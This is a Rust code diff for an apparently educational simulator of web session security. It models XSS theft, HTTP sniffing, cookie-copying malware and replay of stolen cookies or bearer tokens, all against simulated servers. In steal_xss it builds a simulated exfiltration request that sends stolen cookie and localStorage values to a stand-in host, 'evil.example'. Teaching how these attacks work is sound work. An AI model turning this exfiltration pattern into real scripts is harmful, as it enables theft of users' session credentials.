@@ -18,6 +18,7 @@ pub mod export;
 pub mod hop;
 pub mod http;
 pub mod meters;
+pub mod note;
 pub mod refresh;
 pub mod rng;
 pub mod scenario;
@@ -29,15 +30,16 @@ pub mod users;
 
 use self::attacker::{Attacker, Credential, Loot, Replay, Source};
 use self::balancer::{Balancer, STICKY_COOKIE};
-use self::browser::{Browser, Initiator, PageView, QUOTE_KEY};
+use self::browser::{Browser, Initiator, PageView, Readable, QUOTE_KEY, TOKEN_KEY};
 use self::clock::{Clock, Millis};
 use self::config::{
     AuthMode, Choice, Config, LbPolicy, StoreMode, Transport, EVIL_HOST, MAX_SERVERS, MIN_SERVERS, SITE_HOST,
 };
 use self::exchange::Exchange;
-use self::hop::{abbreviate, forwarded_extra, server_letter, Actor, Hop, HopKind, Text, Trace, Wire};
+use self::hop::{forwarded_extra, Actor, Hop, HopKind, Short, Text, Trace, Wire};
 use self::http::Request;
 use self::meters::{credential_bytes, Meters};
+use self::note::{AttackerNote, BrowserNote, LogLine, Note, RouteNote, SessionNote, SiteNote, TokenNote};
 use self::rng::{hex, Rng};
 use self::server::{cookie_value, Backend, Db, Server, SESSION_COOKIE};
 use self::session::SessionTable;
@@ -105,6 +107,25 @@ pub enum Action {
     StealSniff,
     /// The attacker replays `GET /me` with the best stolen credential.
     Replay,
+    /// The attacker sends a request from their own browser carrying `credential`
+    /// (a stolen cookie in a `Cookie` header, or a bearer token), or nothing.
+    AttackerSend {
+        /// Method.
+        method: Method,
+        /// Path and query.
+        target: String,
+        /// What to present.
+        credential: Option<Credential>,
+    },
+    /// Malware on the reader's computer copies a cookie out of the browser's profile on
+    /// disk (HttpOnly only hides cookies from page scripts) and hands it to the attacker.
+    StealCookie {
+        /// The cookie's name.
+        name: String,
+    },
+    /// A script injected into the site's page (XSS) sends `GET /me` as the reader: the
+    /// browser attaches the cookies the script itself cannot read.
+    XssRequest,
     /// A server deletes a session (forced logout, C6).
     RevokeSession {
         /// The session id.
@@ -208,10 +229,10 @@ impl World {
         self.clock.now()
     }
 
-    /// Bytes held in every session store: each server's memory (or replica) and the
-    /// shared store.
+    /// Bytes of state the servers keep for logged-in users: every session store (each
+    /// server's memory or replica, the shared store) and the refresh-token table.
     pub fn store_bytes(&self) -> usize {
-        self.servers.iter().map(|s| s.memory.bytes()).sum::<usize>() + self.shared.bytes()
+        self.servers.iter().map(|s| s.memory.bytes()).sum::<usize>() + self.shared.bytes() + self.db.refresh.bytes()
     }
 
     /// The newest exchange, if any.
@@ -249,8 +270,9 @@ impl World {
             Action::SendToken { token } => match get("/me").try_with(AUTHORIZATION, &format!("Bearer {token}")) {
                 Ok(req) => self.browse(req, Initiator::Site),
                 Err(e) => {
-                    self.browser.page = PageView::Error { status: 0, message: e.to_string() };
-                    self.browser.notes = vec![e.to_string()];
+                    let why: Note = BrowserNote::HeaderRefused { name: Text::from(e.name) }.into();
+                    self.browser.page = PageView::Error { status: 0, reason: Some(why.clone()) };
+                    self.browser.notes = vec![why];
                     Vec::new()
                 }
             },
@@ -262,14 +284,19 @@ impl World {
                 if !body.is_empty() {
                     req = req.json(body);
                 }
-                let mut refused = Vec::new();
+                let mut refused: Vec<Note> = Vec::new();
                 for (name, value) in headers {
                     match HeaderName::from_bytes(name.as_bytes()) {
+                        // A page script cannot set these (the Fetch standard's forbidden
+                        // request-header names): the browser writes them itself, once.
+                        Ok(n) if http::is_forbidden_request_header(&n) => {
+                            refused.push(BrowserNote::HeaderForbidden { name: http::canonical(n.as_str()).into() }.into())
+                        }
                         Ok(n) => match req.clone().try_with(n, &value) {
                             Ok(r) => req = r,
-                            Err(e) => refused.push(e.to_string()),
+                            Err(e) => refused.push(BrowserNote::HeaderRefused { name: Text::from(e.name) }.into()),
                         },
-                        Err(_) => refused.push(format!("invalid header name {name:?} dropped")),
+                        Err(_) => refused.push(BrowserNote::HeaderNameInvalid { name: Text::from(name) }.into()),
                     }
                 }
                 let hops = self.browse(req, Initiator::Site);
@@ -278,17 +305,26 @@ impl World {
             }
             Action::StealXss => self.steal_xss(),
             Action::StealSniff => self.steal_sniff(),
-            Action::Replay => self.replay(),
+            Action::Replay => {
+                let best = self.attacker.best().cloned();
+                self.attacker_send(Method::GET, "/me", best)
+            }
+            Action::AttackerSend { method, target, credential } => self.attacker_send(method, &target, credential),
+            Action::StealCookie { name } => {
+                self.steal_cookie(&name);
+                Vec::new()
+            }
+            Action::XssRequest => self.xss_request(),
             Action::RevokeSession { sid } => {
                 let mut n = usize::from(self.shared.remove(&sid));
                 for s in &mut self.servers {
                     if s.memory.remove(&sid) {
                         n += 1;
-                        s.log(format!("session {} revoked by an admin", abbreviate(&sid)));
+                        s.log(LogLine::Event(SessionNote::Revoked { sid: Short::of(&sid) }.into()));
                     }
                 }
                 if n == 0 {
-                    self.browser.notes = vec![format!("session {} was not found", abbreviate(&sid))];
+                    self.browser.notes = vec![SessionNote::NotFound { sid: Short::of(&sid) }.into()];
                 }
                 Vec::new()
             }
@@ -302,29 +338,26 @@ impl World {
                 if let Some(s) = self.servers.get_mut(i as usize) {
                     let lost = s.memory.len();
                     s.memory.clear();
-                    s.log(format!("restarted: {lost} session(s) in memory lost"));
+                    s.log(LogLine::Event(SessionNote::Restarted { lost }.into()));
                 }
                 Vec::new()
             }
             Action::RotateKey { server, graceful } => {
                 self.key_serial += 1;
                 let key = SigningKey::new(format!("k{}", self.key_serial), demo_secret(&mut self.rng));
-                let kid = key.kid.clone();
+                let line = LogLine::Event(TokenNote::KeyRotated { kid: Text::from(key.kid.clone()), graceful }.into());
                 match server {
                     Some(i) => {
                         if let Some(s) = self.servers.get_mut(i as usize) {
                             s.keys.rotate(key, graceful);
-                            s.log(format!(
-                                "signing key rotated to {kid}{}",
-                                if graceful { " (old key still accepted)" } else { "" }
-                            ));
+                            s.log(line);
                         }
                     }
                     None => {
                         self.cluster_keys.rotate(key.clone(), graceful);
                         for s in &mut self.servers {
                             s.keys.rotate(key.clone(), graceful);
-                            s.log(format!("signing key rotated to {kid}"));
+                            s.log(line.clone());
                         }
                     }
                 }
@@ -393,6 +426,7 @@ impl World {
             s.memory.purge_expired(now);
         }
         self.shared.purge_expired(now);
+        self.db.refresh.purge_expired(now);
         self.browser.jar.remove_expired(now);
     }
 
@@ -402,14 +436,14 @@ impl World {
         let (req, note) = self.browser.prepare(req, &self.config, now, from);
         let ex = self.send(Actor::Browser, req, note);
         let now = self.now();
-        self.browser.receive(ex.request.path(), &ex.response, &self.config, now);
+        self.browser.receive(ex.request.path(), &ex.response, &self.config, now, from);
         let hops = ex.hops.clone();
         self.push_exchange(ex);
         hops
     }
 
     /// Sends a request from `actor` through the balancer to a server and back.
-    fn send(&mut self, actor: Actor, req: Request, note: String) -> Exchange {
+    fn send(&mut self, actor: Actor, req: Request, note: Note) -> Exchange {
         self.exchange_count += 1;
         let id = self.exchange_count;
         let started = self.now();
@@ -425,7 +459,7 @@ impl World {
             label.clone(),
             Wire::Text(Text::default()),
             sent_bytes,
-            note.into(),
+            Some(note),
         );
 
         // Only the sticky policy reads the balancer's cookie.
@@ -433,7 +467,7 @@ impl World {
             LbPolicy::Sticky => cookie_value(&req, STICKY_COOKIE),
             LbPolicy::RoundRobin | LbPolicy::Random => None,
         };
-        let mut route = self.balancer.pick(self.config.lb, self.servers.len() as u8, sticky, &mut self.rng);
+        let route = self.balancer.pick(self.config.lb, self.servers.len() as u8, sticky, &mut self.rng);
         // The balancer adds two headers on the way in, last. No handler reads them: a
         // request that does not carry them yet is handed over as it is, its header block
         // counted with them; one that does gets a copy with them appended.
@@ -452,7 +486,7 @@ impl World {
             label,
             Wire::Text(Text::default()),
             sent_bytes + extra,
-            std::mem::take(&mut route.why),
+            Some(route.why.into()),
         );
         let header_block = req.header_block_size() + extra;
         let server_sees = match &forwarded {
@@ -484,15 +518,15 @@ impl World {
             status_label.clone(),
             Wire::Response(Arc::clone(&res)),
             res_bytes,
-            verdict,
+            Some(verdict),
         );
         let (res, back_note) = match &route.set_sticky {
             Some(cookie) => {
                 let pinned = (*res).clone().with(::http::header::SET_COOKIE, cookie);
-                (Arc::new(pinned), Text::from(format!("balancer pins this client to {}", server_letter(route.server))))
+                (Arc::new(pinned), Some(RouteNote::Pinned { server: route.server }.into()))
             }
             // The balancer passes the answer on unchanged: the same text.
-            None => (res, Text::default()),
+            None => (res, None),
         };
         let back_bytes = res.wire_size();
         trace.push_wire(
@@ -536,9 +570,9 @@ impl World {
     }
 
     /// A one-hop exchange-less message (XSS exfiltration, sniffing), counted in the meters.
-    fn leak(&mut self, from: Actor, label: String, raw: String, note: String) -> Vec<Hop> {
+    fn leak(&mut self, from: Actor, label: &'static str, raw: String, note: Note) -> Vec<Hop> {
         let mut trace = Trace::new(0, self.now());
-        trace.push(from, Actor::Attacker, HopKind::Leak, label, raw, note);
+        trace.push(from, Actor::Attacker, HopKind::Leak, Text::Static(label), raw, Some(note));
         self.meters.add_hops(&trace.hops);
         trace.hops
     }
@@ -547,37 +581,41 @@ impl World {
         let now = self.now();
         let readable = self.browser.script_readable(&self.config, now);
         let mut got = Vec::new();
-        for (what, value) in &readable {
-            let credential = match what.as_str() {
-                "localStorage access_token" => Credential::Bearer(value.clone()),
-                w if w.starts_with("cookie ") => Credential::Cookie { name: w[7..].to_string(), value: value.clone() },
-                w => Credential::Other { what: w.to_string(), value: value.clone() },
+        let mut payload = Vec::new();
+        for r in readable {
+            let credential = match r {
+                Readable::Cookie { name, value } => {
+                    payload.push(format!("cookie%20{}={}", url_component(&name), url_component(&value)));
+                    Credential::Cookie { name, value }
+                }
+                Readable::Storage { key, value } => {
+                    payload.push(format!("localStorage%20{}={}", url_component(&key), url_component(&value)));
+                    if key == TOKEN_KEY {
+                        Credential::Bearer(value)
+                    } else {
+                        Credential::Stored { key, value }
+                    }
+                }
             };
-            got.push(credential.describe());
+            got.push(credential.clone());
             self.attacker.take(Loot { source: Source::Xss, credential });
         }
-        let hidden: Vec<String> = self.browser.jar.iter().filter(|c| c.http_only).map(|c| c.name.clone()).collect();
-        let mut summary =
-            if got.is_empty() { "script read nothing".to_string() } else { format!("script read {}", got.join(", ")) };
-        if !hidden.is_empty() {
-            summary.push_str(&format!("; HttpOnly kept {} out of reach", hidden.join(", ")));
-        }
+        let hidden: Vec<Text> =
+            self.browser.jar.iter().filter(|c| c.http_only).map(|c| Text::from(c.name.clone())).collect();
+        let summary: Note = AttackerNote::ScriptRead { got, hidden }.into();
         self.attacker.last_attempt = Some(summary.clone());
-        let payload: Vec<String> =
-            readable.iter().map(|(k, v)| format!("{}={}", url_component(k), url_component(v))).collect();
         let raw = format!("GET /collect?{} HTTP/1.1\r\nHost: {EVIL_HOST}\r\n\r\n", payload.join("&"));
-        self.leak(Actor::Browser, "XSS → evil.example".into(), raw, summary)
+        self.leak(Actor::Browser, "XSS → evil.example", raw, summary)
     }
 
     fn steal_sniff(&mut self) -> Vec<Hop> {
         if self.config.transport == Transport::Https {
-            let msg = "https: the eavesdropper sees only encrypted bytes and the host name".to_string();
+            let msg: Note = AttackerNote::SniffTls.into();
             self.attacker.last_attempt = Some(msg.clone());
-            return self.leak(Actor::Browser, "sniff (TLS)".into(), String::new(), msg);
+            return self.leak(Actor::Browser, "TLS", String::new(), msg);
         }
         let Some(ex) = self.exchanges.iter().rev().find(|e| e.actor == Actor::Browser) else {
-            let msg = "no traffic to read yet".to_string();
-            self.attacker.last_attempt = Some(msg.clone());
+            self.attacker.last_attempt = Some(AttackerNote::NoTraffic.into());
             return Vec::new();
         };
         let req = Arc::clone(&ex.request);
@@ -606,45 +644,64 @@ impl World {
                 got.push(Credential::Bearer(t.into()));
             }
         }
-        let summary = if got.is_empty() {
-            "plain http: read the whole request, but it carried no credential".to_string()
-        } else {
-            format!("plain http: read {}", got.iter().map(Credential::describe).collect::<Vec<_>>().join(", "))
-        };
-        for credential in got {
+        for credential in got.iter().cloned() {
             self.attacker.take(Loot { source: Source::Sniff, credential });
         }
+        let summary: Note = AttackerNote::Sniffed { got }.into();
         self.attacker.last_attempt = Some(summary.clone());
         let raw = format!("{}{}", req.raw(), res.raw());
-        self.leak(Actor::Browser, "sniffed (http)".into(), raw, summary)
+        self.leak(Actor::Browser, "HTTP", raw, summary)
     }
 
-    fn replay(&mut self) -> Vec<Hop> {
-        let mut req = Request::new(Method::GET, SITE_HOST, "/me");
-        let used = match self.attacker.best().cloned() {
-            Some(Credential::Bearer(t)) => {
-                req = req.with(AUTHORIZATION, &format!("Bearer {t}"));
-                format!("bearer token {}", abbreviate(&t))
+    /// Malware copies a cookie from the browser's profile on disk.
+    fn steal_cookie(&mut self, name: &str) {
+        let now = self.now();
+        let found = self.browser.jar.iter().find(|c| c.name == name && !c.is_expired(now));
+        let note = match found {
+            Some(c) => {
+                let credential = Credential::Cookie { name: c.name.clone(), value: c.value.clone() };
+                self.attacker.take(Loot { source: Source::Malware, credential: credential.clone() });
+                AttackerNote::CookieCopied(credential)
             }
-            Some(Credential::Cookie { name, value }) => {
-                req = req.with(COOKIE, &format!("{name}={value}"));
-                format!("cookie {name}={}", abbreviate(&value))
-            }
-            _ => "nothing stolen: no credential".to_string(),
+            None => AttackerNote::NoCookieToCopy { name: Text::from(name.to_string()) },
         };
-        let ex = self.send(Actor::Attacker, req, format!("replay with {used}"));
-        let message = ex
-            .response
-            .error_message()
-            .or_else(|| {
-                serde_json::from_str::<serde_json::Value>(&ex.response.body)
-                    .ok()?
-                    .get("user")?
-                    .as_str()
-                    .map(|u| format!("logged in as {u}"))
-            })
-            .unwrap_or_default();
-        self.attacker.last_replay = Some(Replay { status: ex.response.status.as_u16(), message, used });
+        self.attacker.last_attempt = Some(note.into());
+    }
+
+    /// The injected script calls `GET /me` from the reader's page.
+    fn xss_request(&mut self) -> Vec<Hop> {
+        let hops = self.browse(Request::new(Method::GET, SITE_HOST, "/me"), Initiator::InjectedScript);
+        if let Some(ex) = self.exchanges.back() {
+            let cookies = ex
+                .request
+                .header(&COOKIE)
+                .map(|h| h.split("; ").filter_map(|kv| kv.split('=').next()).map(|n| Text::from(n.to_string())).collect())
+                .unwrap_or_default();
+            let status = ex.response.status.as_u16();
+            self.attacker.last_attempt = Some(AttackerNote::ScriptSent { status, cookies }.into());
+        }
+        hops
+    }
+
+    /// A request from the attacker's own browser, with a credential of their choosing.
+    fn attacker_send(&mut self, method: Method, target: &str, credential: Option<Credential>) -> Vec<Hop> {
+        let mut req = Request::new(method, SITE_HOST, target);
+        if req.method == Method::POST {
+            req = req.json("{}".into());
+        }
+        match &credential {
+            Some(Credential::Bearer(t)) => req = req.with(AUTHORIZATION, &format!("Bearer {t}")),
+            Some(Credential::Cookie { name, value }) => req = req.with(COOKIE, &format!("{name}={value}")),
+            Some(Credential::Stored { .. }) | None => {}
+        }
+        let ex = self.send(Actor::Attacker, req, AttackerNote::Replaying(credential.clone()).into());
+        let outcome = match ex.response.reason.clone() {
+            Some(why) => Some(why),
+            None => serde_json::from_str::<serde_json::Value>(&ex.response.body)
+                .ok()
+                .and_then(|b| b.get("user")?.as_str().map(|u| SiteNote::LoggedInAs { user: Text::from(u.to_string()) }.into())),
+        };
+        self.attacker.last_replay = Some(Replay { status: ex.response.status.as_u16(), outcome, used: credential });
         let hops = ex.hops.clone();
         self.push_exchange(ex);
         hops
